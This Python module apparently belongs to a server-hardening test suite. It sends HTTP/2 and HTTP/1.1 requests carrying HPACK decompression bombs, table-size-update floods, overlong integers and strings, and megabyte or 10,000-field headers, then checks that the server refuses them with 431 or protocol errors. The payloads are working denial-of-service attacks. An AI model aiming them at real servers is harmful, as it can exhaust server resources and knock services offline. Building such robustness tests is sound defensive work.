"""Decides how field sections are made that are small on the wire and large, or many, or endless, once read."""

from __future__ import annotations

from collections.abc import Callable

from suite.attack import Attack, Battle
from wire import frames, hpack, requests
from wire.http1 import Line
from wire.peer import Peer
from wire.reaction import ended_with, observe, refused_with
from wire.transport import Target

FRAME = 16_384
Section = Callable[[Target], bytes]


def in_frames(stream: int, section: bytes) -> bytes:
    """A section of any length: one HEADERS frame and as many CONTINUATIONs as it takes."""
    pieces = [section[start : start + FRAME] for start in range(0, len(section), FRAME)]
    out = frames.headers(stream, pieces[0], end_headers=len(pieces) == 1)
    for number, piece in enumerate(pieces[1:], 2):
        out += frames.continuation(stream, piece, end_headers=number == len(pieces))
    return out


def attack(section: Section) -> Callable[[Battle], str]:
    def run(battle: Battle) -> str:
        with Peer(battle.target) as peer:
            peer.send(in_frames(1, section(battle.target)))
            return observe(peer, 1)

    return run


def ping(target: Target, *fields: tuple[str, str]) -> bytes:
    return requests.head(target, requests.PING, *requests.JSON, *fields)


def bomb(target: Target) -> bytes:
    """An entry that fills the table, and thousands of references of one byte to it."""
    return ping(target) + hpack.indexed_literal("x", "y" * 4000) + hpack.reference(62) * 12_000


def many_bombs(battle: Battle) -> str:
    """On each connection the entry once, then a stream after a stream of references: 10 KB each that become 40 MB."""
    start = ping(battle.target)
    piece = start + hpack.reference(62) * 10_000
    peers = [Peer(battle.target) for _ in range(24)]
    for peer in peers:
        peer.send(frames.headers(1, start + hpack.indexed_literal("x", "y" * 4000)))
    for peer in peers:
        peer.flood(frames.headers(stream, piece) for stream in range(3, 23, 2))
    seen = {observe(peer, 21, within=20) for peer in peers}
    for peer in peers:
        peer.socket.close()
    return " and ".join(sorted(seen))


def size_updates(target: Target) -> bytes:
    return hpack.table_size(0) * 100_000 + ping(target)


def alternating_sizes(target: Target) -> bytes:
    return (hpack.table_size(0) + hpack.table_size(4096)) * 20_000 + ping(target)


def update_over_limit(target: Target) -> bytes:
    return hpack.table_size(1 << 30) + ping(target)


def endless_integer(target: Target) -> bytes:
    return ping(target) + b"\xff" + b"\xff" * 10_000 + b"\x00"


def giant_string(target: Target) -> bytes:
    return ping(target) + b"\x00" + hpack.string("x") + hpack.integer(1 << 28, 7) + b"y" * 100_000


def churn(target: Target) -> bytes:
    """Each entry throws the one before out of the table."""
    return ping(target) + b"".join(hpack.indexed_literal("x", f"{n:04000}") for n in range(30))


def metadata_megabyte(target: Target) -> bytes:
    return ping(target, ("x", "y" * (1 << 20)))


def metadata_many(target: Target) -> bytes:
    return ping(target, *((f"x{n}", "y") for n in range(10_000)))


def over_http1(*lines: str) -> Callable[[Battle], str]:
    def run(battle: Battle) -> str:
        with Line(battle.target) as line:
            line.send(requests.http1(battle.target, requests.PING, b"{}", *lines))
            return line.reaction()

    return run


TOO_LARGE = refused_with("ENHANCE_YOUR_CALM", "PROTOCOL_ERROR", "INTERNAL_ERROR") | {"HTTP 431"}
TOO_LARGE_HTTP1 = frozenset({"HTTP 431 closed", "closed"})
MALFORMED = ended_with("COMPRESSION_ERROR")
EITHER = MALFORMED | TOO_LARGE | {"HTTP 200", "HTTP 400"}

ATTACKS = tuple(
    Attack(name, sends, must, run, right)
    for name, sends, must, run, right in (
        ("hpack-bomb", "12,000 references to a 4 KB entry", "431 or an error", attack(bomb), TOO_LARGE),
        (
            "hpack-bombs",
            "10,000 such references on 10 streams of 24 connections",
            "431 or an error",
            many_bombs,
            TOO_LARGE,
        ),
        (
            "hpack-size-updates",
            "100,000 table size updates",
            "read them cheaply, or an error",
            attack(size_updates),
            EITHER,
        ),
        (
            "hpack-size-alternates",
            "40,000 updates up and down",
            "read them cheaply, or an error",
            attack(alternating_sizes),
            EITHER,
        ),
        ("hpack-size-over-limit", "a table size of 1 GiB", "COMPRESSION_ERROR", attack(update_over_limit), MALFORMED),
        (
            "hpack-endless-integer",
            "an integer of 10,000 bytes",
            "COMPRESSION_ERROR",
            attack(endless_integer),
            MALFORMED,
        ),
        ("hpack-giant-string", "a string of 256 MiB, begun", "an error", attack(giant_string), MALFORMED | TOO_LARGE),
        ("hpack-churn", "30 entries that each fill the table", "431 or an error", attack(churn), TOO_LARGE),
        ("metadata-1-mb", "a field of 1 MiB", "431 or an error", attack(metadata_megabyte), TOO_LARGE | MALFORMED),
        ("metadata-10000", "10,000 fields", "431 or an error", attack(metadata_many), TOO_LARGE),
        ("metadata-1-mb-http1", "the same over HTTP/1.1", "431", over_http1("X: " + "y" * (1 << 20)), TOO_LARGE_HTTP1),
        (
            "metadata-10000-http1",
            "the same over HTTP/1.1",
            "431",
            over_http1(*(f"X{n}: y" for n in range(10_000))),
            TOO_LARGE_HTTP1,
        ),
    )
)
